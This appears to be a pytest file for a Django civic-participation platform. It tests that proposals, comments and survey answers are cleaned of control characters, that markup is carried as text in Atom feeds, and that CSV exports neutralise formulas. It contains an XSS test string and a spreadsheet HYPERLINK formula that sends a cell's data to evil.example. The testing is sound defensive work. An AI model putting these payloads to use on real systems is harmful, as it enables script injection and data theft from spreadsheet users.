"""People's text in co-creation, on the way in (form, API: cleaned, or refused with a 4xx) and
on the way out (the call's feed and the survey CSV), whatever was stored before (issue 12)."""

import csv
import io
import json
import xml.etree.ElementTree as ET

import pytest
from django.urls import reverse

from openhromada.opendata.tokens import token_create
from openhromada.participation.consultations import services as consultations
from openhromada.participation.models import Proposal
from tests.factories.hostile import INVISIBLE, NUL, has_control, hostile, store_raw
from tests.participation.fixtures import submit

pytestmark = pytest.mark.django_db
ATOM = "{http://www.w3.org/2005/Atom}"
MARKUP = '<script>alert(1)</script><img src=x onerror="alert(2)">'


def _auth(user):
    _token, plain = token_create(actor=user, name="t", scope="write")
    return {"HTTP_AUTHORIZATION": f"Bearer {plain}"}


def _feed(client, call) -> ET.Element:
    response = client.get(f"/feeds/calls/{call.pk}.atom")
    assert response.status_code == 200
    assert not has_control(response.content.decode())
    return ET.fromstring(response.content)


def test_call_feed_survives_a_title_with_words_line_break(client, call, proposal):
    store_raw(proposal, title="Лавки\x0bу парку", problem=hostile("Немає де сісти"))
    feed = _feed(client, call)
    assert "Лавки\nу парку" in feed.find(f"{ATOM}entry/{ATOM}title").text


def test_call_feed_carries_markup_as_text(client, call, resident):
    submit(resident, call, title=f"Ідея {MARKUP}", problem=f"Проблема {MARKUP}")
    entry = _feed(client, call).find(f"{ATOM}entry")
    summary = entry.find(f"{ATOM}summary")
    assert summary.get("type") == "text" and MARKUP in summary.text
    assert entry.find(f"{ATOM}title").get("type") in (None, "text")
    assert MARKUP in entry.find(f"{ATOM}title").text


def test_api_cleans_invisible_characters(client, call, resident):
    body = {
        "title": f"Лавки{INVISIBLE}\x0bу парку",
        "problem": f"Немає{NUL}{INVISIBLE} де\x0bсісти",
        "solution": "Поставити\tлавки\r\nу парку",
    }
    response = client.post(
        f"/api/v1/calls/{call.pk}/proposals",
        json.dumps(body),
        content_type="application/json",
        **_auth(resident),
    )
    assert response.status_code == 201, response.content
    proposal = Proposal.objects.get()
    assert proposal.title == "Лавки у парку"
    assert proposal.problem == "Немає де\nсісти"
    assert proposal.solution == "Поставити\tлавки\r\nу парку"
    history = client.get("/api/v1/history", {"object_type": "participation.proposal"}).json()
    assert history["items"][0]["changes"]["title"] == [None, "Лавки у парку"]


@pytest.mark.parametrize("title", ["Лавки\nу парку", "Лавки\rу парку"])
def test_api_refuses_a_line_break_in_a_title(client, call, resident, title):
    body = {"title": title, "problem": "p", "solution": "s"}
    response = client.post(
        f"/api/v1/calls/{call.pk}/proposals",
        json.dumps(body),
        content_type="application/json",
        **_auth(resident),
    )
    assert response.status_code == 400
    assert response.json()["errors"][0]["parameter"] == "title"
    assert not Proposal.objects.exists()


def test_api_category_with_nul_is_a_clear_400(client, call, resident):
    body = {"title": "t", "problem": "p", "solution": "s", "category": f"Інша{NUL}"}
    response = client.post(
        f"/api/v1/calls/{call.pk}/proposals",
        json.dumps(body),
        content_type="application/json",
        **_auth(resident),
    )
    assert response.status_code == 400


def test_form_cleans_words_line_break_and_refuses_nul(client, call, resident):
    client.force_login(resident)
    url = reverse("participation:proposal_create", args=[call.pk])
    form = {"title": "Лавки\x0bу\u202eпарку", "problem": "Немає\x0bде сісти", "solution": "Так"}
    response = client.post(url, form)
    assert response.status_code == 302
    proposal = Proposal.objects.get()
    assert (proposal.title, proposal.problem) == ("Лавки упарку", "Немає\nде сісти")
    response = client.post(url, {**form, "title": f"Лавки{NUL}"})
    assert response.status_code == 400 and Proposal.objects.count() == 1


def test_comment_through_the_api_is_cleaned(client, proposal, neighbour):
    response = client.post(
        f"/api/v1/proposals/{proposal.pk}/comments",
        json.dumps({"text": f"Так{NUL}\x1b[31m\x0bпідтримую"}),
        content_type="application/json",
        **_auth(neighbour),
    )
    assert response.status_code == 201 and response.json()["text"] == "Так[31m\nпідтримую"


def test_survey_csv_neutralises_formulas(client, official, hromada, resident):
    from tests.participation.fixtures import draft_consultation, window

    consultation = draft_consultation(official, hromada, **window())
    question = consultations.question_save(
        actor=official, consultation=consultation, text="=1+1", kind="text", options=[]
    )
    consultations.consultation_publish(actor=official, consultation=consultation)
    answer = '=HYPERLINK("https://evil.example/?"&A1,"Натисніть")'
    consultations.survey_answer(
        actor=resident, consultation=consultation, answers={question.pk: answer}
    )
    url = reverse("participation:survey_csv", args=[consultation.pk])
    rows = list(csv.reader(io.StringIO(client.get(url).content.decode())))
    assert rows[1][1] == "'=1+1" and rows[1][3] == "'" + answer


def test_survey_answers_and_options_are_cleaned(official, hromada, resident):
    from openhromada.participation.models import Answer
    from tests.participation.fixtures import draft_consultation, window

    consultation = draft_consultation(official, hromada, **window())
    choice = consultations.question_save(
        actor=official,
        consultation=consultation,
        text="Чи\x0bпідтримуєте?",
        kind="single",
        options=["Так\u202e", "Ні\x01"],
    )
    free = consultations.question_save(
        actor=official, consultation=consultation, text="Чому?", kind="text", options=[]
    )
    consultations.consultation_publish(actor=official, consultation=consultation)
    assert (choice.text, choice.options) == ("Чи підтримуєте?", ["Так", "Ні"])
    consultations.survey_answer(
        actor=resident,
        consultation=consultation,
        answers={choice.pk: "Так", free.pk: f"Бо{NUL}\x1b\x0bтак"},
    )
    assert Answer.objects.get(question=free).text == "Бо\nтак"


def test_stored_hostile_proposals_still_render_everywhere(client, call, proposal):
    store_raw(proposal, title=hostile("Лавки у парку"), problem=hostile("Немає"))
    assert _feed(client, call).find(f"{ATOM}entry") is not None
    for url in (
        reverse("participation:call", args=[call.pk]),
        reverse("participation:proposal", args=[proposal.pk]),
        f"/api/v1/proposals/{proposal.pk}",
    ):
        assert client.get(url).status_code == 200
